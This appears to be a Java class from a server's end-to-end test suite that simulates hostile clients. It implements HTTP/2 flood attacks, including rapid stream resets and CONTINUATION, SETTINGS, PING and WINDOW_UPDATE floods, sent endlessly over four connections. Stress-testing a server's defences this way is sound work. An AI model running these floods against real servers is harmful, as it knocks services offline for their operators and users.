package io.jview.e2e.hostile.attack;

import static io.jview.e2e.hostile.wire.Http2.joined;

import io.jview.e2e.hostile.wire.Http2;
import io.jview.e2e.hostile.wire.Wire;
import java.io.ByteArrayOutputStream;
import java.io.IOException;

/** What HTTP/2 lets a client say without end. */
public record Http2Flood(Kind kind) implements Attack {

  private static final int CONNECTIONS = 4;
  private static final int FRAMES_AT_ONCE = 200;

  /** What is said; most of it has a CVE of its own. */
  public enum Kind {
    RESETS,
    CONTINUATIONS,
    SETTINGS,
    PINGS,
    WINDOW_UPDATES,
    PRIORITIES,
    EMPTY_DATA
  }

  @Override
  public String name() {
    return "HTTP/2 flood of " + Names.of(kind);
  }

  @Override
  public void begin(Attacker attacker) {
    attacker.each(
        CONNECTIONS,
        wire -> {
          wire.send(Http2.preface());
          Thread.ofVirtual().name("e2e-attack-reader").start(wire::drainQuietly);
          start(wire);
          for (int stream = 3; attacker.goesOn(); stream += 2 * FRAMES_AT_ONCE) {
            wire.send(some(stream, wire.host()));
          }
        });
  }

  private void start(Wire wire) throws IOException {
    if (kind == Kind.CONTINUATIONS) {
      wire.send(Http2.frame(Http2.HEADERS, 0, 1, Http2.head("GET", wire.host(), "/big")));
    } else if (kind == Kind.EMPTY_DATA) {
      wire.send(Http2.post(1, wire.host(), "/form"));
    }
  }

  private byte[] some(int from, String host) {
    ByteArrayOutputStream some = new ByteArrayOutputStream();
    for (int i = 0; i < FRAMES_AT_ONCE; i++) {
      some.writeBytes(one(from + 2 * i, host));
    }
    return some.toByteArray();
  }

  private byte[] one(int stream, String host) {
    return switch (kind) {
      case RESETS -> joined(Http2.get(stream, host, "/counter"), Http2.reset(stream));
      case CONTINUATIONS ->
          Http2.frame(Http2.CONTINUATION, 0, 1, Http2.header("x" + stream, "y".repeat(100)));
      case SETTINGS -> Http2.settings();
      case PINGS -> Http2.ping();
      case WINDOW_UPDATES -> Http2.windowUpdate(0, 1);
      case PRIORITIES -> Http2.priority(stream);
      case EMPTY_DATA -> Http2.data(0, 1, new byte[0]);
    };
  }
}
